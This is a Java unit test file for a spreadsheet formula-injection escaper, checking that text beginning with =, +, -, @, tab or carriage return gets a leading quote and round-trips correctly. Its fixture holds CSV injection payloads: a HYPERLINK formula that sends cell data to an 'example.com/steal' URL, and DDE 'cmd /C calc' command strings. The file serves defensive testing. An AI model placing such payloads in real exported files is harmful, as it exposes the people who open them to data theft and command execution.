package com.merchantdesk.kernel.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

public class SpreadsheetSafeTextTest {

    /** Payloads that start with each lead character: =, +, -, @, tab, carriage return. */
    static List<String> formulas() {
        return List.of(
                "=HYPERLINK(\"http://example.com/steal?\"&A1,\"Click\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "-",
                "+82 10-1234-5678",
                "- Soft linen");
    }

    /** Text that starts with a quote, with and without a lead character after it. */
    static List<String> quoted() {
        return List.of("'=already quoted", "''+two quotes", "'-12.50", "'\t=1+1", "'plain quote", "'", "''", "'0'");
    }

    /** Texts of every kind, for the round trip. */
    public static List<String> everything() {
        List<String> all = new java.util.ArrayList<>(formulas());
        all.addAll(quoted());
        all.addAll(List.of("-12.50", "+5", "0", "-0", "-0.5", "-1e3", "Linen Shirt", "a=b", "린넨 셔츠", "陶瓷茶杯", ""));
        return all;
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void textStartingWithALeadCharacterGetsAQuoteInFront(String text) {
        assertThat(SpreadsheetSafeText.escape(text)).isEqualTo("'" + text);
        assertThat(SpreadsheetSafeText.looksLikeFormula(text)).isTrue();
        assertThat(SpreadsheetSafeText.looksLikeFormula(SpreadsheetSafeText.escape(text))).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12.50", "+5", "+3", "0", "-0", "-0.5", "12", "19.90", "-100000"})
    void plainNumbersStayNumbers(String number) {
        assertThat(SpreadsheetSafeText.isPlainNumber(number)).isTrue();
        assertThat(SpreadsheetSafeText.escape(number)).isEqualTo(number);
        assertThat(SpreadsheetSafeText.unescape(number)).isEqualTo(number);
        assertThat(SpreadsheetSafeText.looksLikeFormula(number)).isFalse();
    }

    /** Only sign, digits, dot, digits is a plain number: anything else after a lead character is text. */
    @ParameterizedTest
    @ValueSource(strings = {"-1e3", "+1E5", "-1,250", "-.5", "-5.", "- 5", "-5 ", "-0x1F", "--5", "+-5", "-１２"})
    void numberLookalikesAfterALeadCharacterAreQuoted(String text) {
        assertThat(SpreadsheetSafeText.isPlainNumber(text)).isFalse();
        assertThat(SpreadsheetSafeText.escape(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Linen Shirt", "a=b", "1e3", ".5", "린넨 셔츠", "'plain quote", "it's", "'", "'0'", " =not first"})
    void otherTextIsLeftAlone(String text) {
        assertThat(SpreadsheetSafeText.escape(text)).isEqualTo(text);
        assertThat(SpreadsheetSafeText.unescape(text)).isEqualTo(text);
    }

    @Test
    void textStartingWithQuotesBeforeALeadCharacterGetsOneMoreQuote() {
        assertThat(SpreadsheetSafeText.escape("'=already quoted")).isEqualTo("''=already quoted");
        assertThat(SpreadsheetSafeText.escape("''+two quotes")).isEqualTo("'''+two quotes");
        assertThat(SpreadsheetSafeText.escape("'-12.50")).isEqualTo("''-12.50");
        assertThat(SpreadsheetSafeText.unescape("''=already quoted")).isEqualTo("'=already quoted");
        assertThat(SpreadsheetSafeText.unescape("'=x")).isEqualTo("=x");
    }

    @Test
    void unescapeLeavesAFormulaTypedWithoutAQuoteAsItIs() {
        assertThat(SpreadsheetSafeText.unescape("=SUM(A1:A3)")).isEqualTo("=SUM(A1:A3)");
        assertThat(SpreadsheetSafeText.looksLikeFormula("=SUM(A1:A3)")).isTrue();
        assertThat(SpreadsheetSafeText.looksLikeFormula("'=SUM(A1:A3)")).isFalse();
    }

    @Test
    void emptyAndNullPassThrough() {
        assertThat(SpreadsheetSafeText.escape("")).isEmpty();
        assertThat(SpreadsheetSafeText.unescape("")).isEmpty();
        assertThat(SpreadsheetSafeText.escape(null)).isNull();
        assertThat(SpreadsheetSafeText.unescape(null)).isNull();
        assertThat(SpreadsheetSafeText.looksLikeFormula("")).isFalse();
        assertThat(SpreadsheetSafeText.looksLikeFormula(null)).isFalse();
    }

    @ParameterizedTest
    @MethodSource("everything")
    void unescapeGivesBackWhatEscapeWasGiven(String text) {
        assertThat(SpreadsheetSafeText.unescape(SpreadsheetSafeText.escape(text))).isEqualTo(text);
    }
}
